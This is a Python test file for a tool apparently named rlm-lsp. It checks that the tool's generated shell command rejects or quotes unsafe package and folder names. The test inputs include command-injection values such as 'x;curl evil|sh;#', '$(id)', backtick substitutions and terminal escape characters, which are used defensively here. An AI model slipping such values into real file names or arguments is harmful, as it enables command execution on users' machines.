"""The command that measures the functions of a file."""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

import pytest
from rlm_lsp.history.measurements import _quoted, command_for


def test_the_command_names_the_package_and_its_project(tmp_path: Path) -> None:
    inner = tmp_path / "my project" / "src" / "shapes" / "inner"
    inner.mkdir(parents=True)
    for folder in (inner, inner.parent):
        (folder / "__init__.py").touch()
    assert command_for(None) is None
    assert command_for(tmp_path / "alone.py") is None
    (tmp_path / "my project" / "pyproject.toml").touch()
    command = command_for(inner / "area.py")
    assert command is not None
    assert shlex.split(command) == [
        "cd",
        str(tmp_path / "my project"),
        "&&",
        "rlm-lsp",
        "measure",
        "tests",
        "--package",
        "shapes",
    ]


@pytest.mark.parametrize(
    "name",
    ["x;curl evil|sh;#", "$(id)", "`id`", "a b", "a\nid\n", "--help", "a&b", "a'b", 'a"b', "1a", "a-b", "\x1b[2J"],
)
def test_a_package_that_is_not_named_by_an_identifier_has_no_command(tmp_path: Path, name: str) -> None:
    package = tmp_path / name
    package.mkdir()
    (package / "__init__.py").touch()
    assert command_for(package / "area.py") is None


@pytest.mark.parametrize("name", ["x;id;#", "$(id)", "`id`", "a b", "a'b", 'a"b', "a&b", "-x", "é"])
def test_the_name_of_the_folder_is_one_word(tmp_path: Path, name: str) -> None:
    package = tmp_path / name / "shapes"
    package.mkdir(parents=True)
    (package / "__init__.py").touch()
    command = command_for(package / "area.py")
    assert command is not None
    script = command.replace("rlm-lsp measure tests --package shapes", "pwd")
    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, check=True)
    assert done.stdout == f"{package.parent}\n"


@pytest.mark.parametrize("name", ["a\nid\n", "a\x1b[2J", "a\rid", "a\u202eb"])
def test_a_folder_whose_name_controls_the_terminal_has_no_command(tmp_path: Path, name: str) -> None:
    package = tmp_path / name / "shapes"
    package.mkdir(parents=True)
    (package / "__init__.py").touch()
    assert command_for(package / "area.py") is None


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        (r"C:\a & b", r'"C:\a & b"'),
        (r"C:\%PATH%", None),
        (r"C:\$(id)", None),
        ("C:\\a`b", None),
        (r"C:\a!b", None),
        ("C:\\a\nb", None),
    ],
)
def test_a_folder_on_windows_is_quoted_for_both_shells(word: str, expected: str | None) -> None:
    assert _quoted(word, windows=True) == expected
